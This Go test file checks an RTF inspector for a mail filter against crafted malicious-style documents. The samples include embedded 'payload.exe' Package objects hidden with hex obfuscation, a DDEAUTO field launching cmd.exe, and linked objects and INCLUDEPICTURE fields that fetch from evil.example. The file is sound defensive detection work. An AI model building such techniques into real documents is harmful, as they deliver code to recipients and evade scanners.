package rtf

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/officemilter/officemilter/inspect"
	"github.com/officemilter/officemilter/inspect/inspecttest"
)

// obfuscate writes hex the way malicious documents do: whitespace and
// garbage letters between digits, ignored control words, nested groups
// whose text is a destination of its own.
func obfuscate(h string) string {
	var b strings.Builder
	for i := 0; i < len(h); i++ {
		b.WriteByte(h[i])
		switch i % 7 {
		case 1:
			b.WriteString("\r\n ")
		case 3:
			b.WriteString(`\fnil `)
		case 4:
			b.WriteString(`{\*\staticval abc}`)
		case 5:
			b.WriteString("zz\t")
		}
	}
	return b.String()
}

type want struct {
	kind   inspect.Kind
	detail string
}

func TestInspect(t *testing.T) {
	pkgObj := ole1("Package", packager("payload.exe", mz))
	pkgHex := hexOf(pkgObj)
	eqHex := hexOf(ole1("Equation.3", cfb(clsidEquation3)))
	// \bin: the first 20 bytes in hex, then 30 raw bytes, then the rest in
	// hex, with an odd digit before "\'hh" (dropped by Word).
	binMix := hexOf(pkgObj[:20]) + `\bin30 ` + string(pkgObj[20:50]) + hexOf(pkgObj[50:60]) + `f\'41` + hexOf(pkgObj[60:]) + "a"
	tests := []struct {
		name     string
		rtf      []byte
		want     []want
		children map[string][]byte // name -> prefix of the data
		err      error
	}{
		{"plain", doc(`plain {\b bold} text`), nil, nil, nil},
		{"package with MZ", doc(objGroup("Package", "", pkgHex)),
			[]want{{inspect.KindEmbeddedObject, "OLE object Package (file payload.exe)"}},
			map[string][]byte{"payload.exe": mz}, nil},
		{"package, obfuscated hex", doc(objGroup("Package", "", obfuscate(pkgHex))),
			[]want{{inspect.KindEmbeddedObject, "OLE object Package (file payload.exe)"}},
			map[string][]byte{"payload.exe": mz}, nil},
		{"package, \\bin and \\'hh", doc(objGroup("Package", "", binMix)),
			[]want{{inspect.KindEmbeddedObject, "OLE object Package (file payload.exe)"}},
			map[string][]byte{"payload.exe": mz}, nil},
		{"package, uppercase hex and odd trailing digit", doc(objGroup("Package", "", strings.ToUpper(pkgHex)+"7")),
			[]want{{inspect.KindEmbeddedObject, "OLE object Package (file payload.exe)"}},
			map[string][]byte{"payload.exe": mz}, nil},
		{"objdata outside object", doc(`{\*\objdata ` + pkgHex + `}`),
			[]want{{inspect.KindEmbeddedObject, "OLE object Package (file payload.exe)"}},
			map[string][]byte{"payload.exe": mz}, nil},
		{"equation", doc(objGroup("Equation.3", `\objupdate`, eqHex)),
			[]want{{inspect.KindEmbeddedObject, `OLE object Equation.3 (Equation Editor object, \objupdate)`}},
			map[string][]byte{"objdata-1.ole": magicCFB}, nil},
		{"equation by CLSID", doc(objGroup("Word.Document.8", "", hexOf(ole1("Word.Document.8", cfb(clsidEquation3))))),
			[]want{{inspect.KindEmbeddedObject, `OLE object Word.Document.8 (Equation Editor object)`}},
			map[string][]byte{"objdata-1.ole": magicCFB}, nil},
		{"compound file", doc(objGroup("Word.Document.8", "", hexOf(ole1("Word.Document.8", cfb(make([]byte, 16)))))),
			[]want{{inspect.KindEmbeddedObject, `OLE object Word.Document.8`}},
			map[string][]byte{"objdata-1.ole": magicCFB}, nil},
		{"OLE1 class wins over objclass", doc(objGroup("Paint.Picture", "", pkgHex)),
			[]want{{inspect.KindEmbeddedObject, "OLE object Package (file payload.exe)"}},
			map[string][]byte{"payload.exe": mz}, nil},
		{"unrecognised native data", doc(objGroup("PBrush", "", hexOf(ole1("PBrush", []byte("BMxxxxxxxxxxxxxxxxxxxx\x00\x01"))))),
			[]want{{inspect.KindEmbeddedObject, "OLE object PBrush"}}, nil, nil},
		{"not OLE1, but an executable", doc(objGroup("Package", "", hexOf(mz))),
			[]want{{inspect.KindEmbeddedObject, "OLE object Package (data is not an OLE1 object)"}},
			map[string][]byte{"objdata-1.bin": mz}, nil},
		{"malformed package", doc(objGroup("Package", "", hexOf(ole1("Package", []byte("\x02\x00label-without-nul"))))),
			[]want{{inspect.KindUnscannable, ""}, {inspect.KindEmbeddedObject, "OLE object Package"}}, nil, nil},
		{"native data truncated", doc(objGroup("Package", "", hexOf(pkgObj[:len(pkgObj)-10]))),
			[]want{{inspect.KindUnscannable, "object 1 (Package): native data truncated"}, {inspect.KindUnscannable, ""}, {inspect.KindEmbeddedObject, "OLE object Package"}}, nil, nil},
		{"linked object", doc(`{\object\objautlink\rsltpict{\*\objclass Word.Document.8}{\*\objdata ` + hexOf(ole1Linked("Word.Document.8", `http://evil.example/x.doc`)) + `}}`),
			[]want{{inspect.KindExternalReference, `linked OLE object Word.Document.8 -> http://evil.example/x.doc (\objautlink)`}}, nil, nil},
		{"objlink without data", doc(`{\object\objlink{\*\objclass Excel.Sheet.8}}`),
			[]want{{inspect.KindExternalReference, `linked OLE object Excel.Sheet.8`}}, nil, nil},
		{"decoy object words", doc(`{\*\footer{\bin\object\objupdate\binN}}`), nil, nil, nil},
		{"ActiveX", doc(`{\object\objocx{\*\objclass Forms.HTML:Image.1}}`),
			[]want{{inspect.KindEmbeddedObject, `OLE object Forms.HTML:Image.1 (ActiveX control)`}}, nil, nil},
		{"pict is not an object", doc(`{\pict\pngblip ` + hexOf(mz) + `}`), nil, nil, nil},
		{"DDEAUTO", doc(`{\field{\*\fldinst {\rtlch\fcs1 DDEAUTO} c:\\windows\\system32\\cmd.exe "/k calc"}{\fldrslt x}}`),
			[]want{{inspect.KindActiveContent, `DDE field: DDEAUTO c:\windows\system32\cmd.exe "/k calc"`}}, nil, nil},
		{"DDE obfuscated", doc(`{\field{\*\fldinst \'44{D}\u69?  "cmd"}}`),
			[]want{{inspect.KindActiveContent, `DDE field: DDE  "cmd"`}}, nil, nil},
		{"dde lower case after whitespace", doc("{\\field{\\*\\fldinst \r\n  dde excel \"x\"}}"),
			[]want{{inspect.KindActiveContent, `DDE field: dde excel "x"`}}, nil, nil},
		{"DDE word inside another field", doc(`{\field{\*\fldinst HYPERLINK "DDE"}}`), nil, nil, nil},
		{"INCLUDEPICTURE http", doc(`{\field{\*\fldinst INCLUDEPICTURE \\d "https://evil.example/p.png" \\* MERGEFORMATINET}{\fldrslt}}`),
			[]want{{inspect.KindExternalReference, `INCLUDEPICTURE https://evil.example/p.png`}}, nil, nil},
		{"INCLUDETEXT http", doc(`{\field{\*\fldinst includetext "http://evil.example/t.rtf"}}`),
			[]want{{inspect.KindExternalReference, `INCLUDETEXT http://evil.example/t.rtf`}}, nil, nil},
		{"INCLUDEPICTURE local", doc(`{\field{\*\fldinst INCLUDEPICTURE "C:\\\\pics\\\\a.png"}}`), nil, nil, nil},
		{"bin outside objdata skips braces", doc(`{\*\datastore \bin5 }}}}}}{\object{\*\objclass Package}{\*\objdata ` + pkgHex + `}}`),
			[]want{{inspect.KindEmbeddedObject, "OLE object Package (file payload.exe)"}},
			map[string][]byte{"payload.exe": mz}, nil},
		{"unbalanced at EOF", []byte(`{\rtf1{\object{\*\objclass Package}{\*\objdata ` + pkgHex),
			[]want{{inspect.KindEmbeddedObject, "OLE object Package (file payload.exe)"}},
			map[string][]byte{"payload.exe": mz}, nil},
		{"stray closing braces", []byte(`{\rtf1 x}}}}} {\field{\*\fldinst DDEAUTO x}}`),
			[]want{{inspect.KindActiveContent, "DDE field: DDEAUTO x"}}, nil, nil},
		{"nesting at the cap", []byte(`{\rtf1` + strings.Repeat("{", MaxNesting-1) + strings.Repeat("}", MaxNesting)), nil, nil, nil},
		{"nesting too deep", []byte(`{\rtf1` + strings.Repeat("{", MaxNesting+1)), nil, nil, ErrTooDeep},
		{"deep nesting after an object", []byte(`{\rtf1{\object{\*\objclass Package}{\*\objdata ` + pkgHex + strings.Repeat("{", 2*MaxNesting)),
			[]want{{inspect.KindEmbeddedObject, "OLE object Package (file payload.exe)"}},
			map[string][]byte{"payload.exe": mz}, ErrTooDeep},
		{"long control word and parameter", doc(`\` + strings.Repeat("x", 300) + `123456789012345678901234567890 \bin-5 {\field{\*\fldinst DDE a}}`),
			[]want{{inspect.KindActiveContent, "DDE field: DDE a"}}, nil, nil},
		{"truncated control word at EOF", []byte(`{\rtf1\ob`), nil, nil, nil},
		{"bin past EOF", []byte(`{\rtf1{\*\objdata 0105\bin99999 abc`),
			[]want{{inspect.KindEmbeddedObject, "OLE object of unknown class (data is not an OLE1 object)"}}, nil, nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r, err := run(tc.rtf)
			if !errors.Is(err, tc.err) {
				t.Fatalf("error %v, want %v", err, tc.err)
			}
			if r.Type != inspect.TypeRTF {
				t.Errorf("type %q", r.Type)
			}
			if len(r.Findings) != len(tc.want) {
				t.Fatalf("findings %+v, want %+v", r.Findings, tc.want)
			}
			for i, w := range tc.want {
				f := r.Findings[i]
				if f.Kind != w.kind || (w.detail != "" && f.Detail != w.detail) {
					t.Errorf("finding %d: %+v, want %+v", i, f, w)
				}
			}
			if len(r.Children) != len(tc.children) {
				t.Fatalf("children %d, want %d", len(r.Children), len(tc.children))
			}
			for _, c := range r.Children {
				prefix, ok := tc.children[c.Name]
				if !ok || !bytes.HasPrefix(c.Data, prefix) {
					t.Errorf("child %q (% x...) unexpected", c.Name, c.Data[:min(len(c.Data), 16)])
				}
			}
		})
	}
}

// TestPackagePayloadExact checks that the obfuscated, \bin-mixed object
// decodes to exactly the embedded file.
func TestPackagePayloadExact(t *testing.T) {
	payload := append(append([]byte{}, mz...), bytes.Repeat([]byte{0xAB, '{', '}', '\\'}, 100)...)
	obj := ole1("Package", packager("x.exe", payload))
	h := hexOf(obj[:33]) + `\bin40 ` + string(obj[33:73]) + obfuscate(hexOf(obj[73:]))
	r, err := run(doc(objGroup("Package", "", h)))
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Children) != 1 || !bytes.Equal(r.Children[0].Data, payload) {
		t.Fatalf("children %+v", r.Children)
	}
}

// stubPE stands in for the executable inspector in an engine test.
type stubPE struct{}

func (stubPE) Inspect(ctx context.Context, p inspect.Part, s inspect.Scope) error {
	s.Emit(inspect.Finding{Kind: inspect.KindExecutable, Detail: "PE"})
	return nil
}

// TestEngine: an executable in a Package in an RTF document makes the
// document's result carry "executable", at the path of the embedded file.
func TestEngine(t *testing.T) {
	e := inspect.NewEngine(map[inspect.Family]inspect.Inspector{inspect.FamilyRTF: New(), inspect.FamilyPE: stubPE{}}, inspect.Limits{})
	b := doc(objGroup("Package", `\objupdate`, obfuscate(hexOf(ole1("Package", packager("run.exe", mz))))))
	res := e.Inspect(context.Background(), "invoice.rtf", "", bytes.NewReader(b), int64(len(b)))
	if res.Type != "rtf" || !res.HasAt(inspect.KindExecutable, "run.exe") || !res.HasAt(inspect.KindEmbeddedObject, "") {
		t.Fatalf("type %s findings %+v", res.Type, res.Findings)
	}
}

func TestCanceled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	b := doc("x")
	p := inspect.Part{Size: int64(len(b)), R: bytes.NewReader(b), Family: inspect.FamilyRTF, Limits: inspect.DefaultLimits}
	if err := New().Inspect(ctx, p, &recScope{}); !errors.Is(err, context.Canceled) {
		t.Fatalf("error %v", err)
	}
}

// TestCorpus reads the shared corpus in place (never copied).
func TestCorpus(t *testing.T) {
	dir := filepath.Join(inspecttest.CorpusPath(t), "rtf")
	b, err := os.ReadFile(filepath.Join(dir, "oletools__issue_251.rtf"))
	if err != nil {
		if os.Getenv("CI") != "" {
			t.Fatalf("shared corpus missing under CI: %v", err)
		}
		t.Skip("shared corpus not available")
	}
	r, err := run(b)
	if err != nil {
		t.Fatal(err)
	}
	var eq bool
	for _, f := range r.Findings {
		eq = eq || f.Kind == inspect.KindEmbeddedObject && strings.Contains(f.Detail, "Equation Editor object")
	}
	// The object data hides the compound file signature across a nested
	// group ("...D{\proptype\staticval abc}0CF11E0..."): it must be found.
	if !eq || len(r.Children) != 1 || !bytes.HasPrefix(r.Children[0].Data, magicCFB) {
		t.Fatalf("findings %+v children %d", r.Findings, len(r.Children))
	}
}

// TestFindingCap: many objects of one class are one finding; many distinct
// ones stop at maxFindings plus one unscannable finding.
func TestFindingCap(t *testing.T) {
	var same, distinct strings.Builder
	for i := 0; i < 3*maxFindings; i++ {
		same.WriteString(`{\object{\*\objclass Equation.3}}`)
		fmt.Fprintf(&distinct, `{\field{\*\fldinst DDE app%d}}`, i)
	}
	r, err := run(doc(same.String()))
	if err != nil || len(r.Findings) != 1 {
		t.Fatalf("same class: err %v, %d findings", err, len(r.Findings))
	}
	r, err = run(doc(distinct.String()))
	if err != nil || len(r.Findings) != maxFindings+1 || r.Findings[maxFindings].Kind != inspect.KindUnscannable {
		t.Fatalf("distinct: err %v, %d findings", err, len(r.Findings))
	}
}

// TestManyObjData: many empty \objdata destinations (a decoy pattern) are
// nothing, and cost little each.
func TestManyObjData(t *testing.T) {
	b := doc(strings.Repeat(`{\*\objdata 0}`, 50000))
	allocs := testing.AllocsPerRun(1, func() {
		r, err := run(b)
		if err != nil || len(r.Findings) != 0 {
			t.Fatalf("err %v findings %+v", err, r.Findings)
		}
	})
	if per := allocs / 50000; per > 8 {
		t.Errorf("%.1f allocations per \\objdata", per)
	}
}
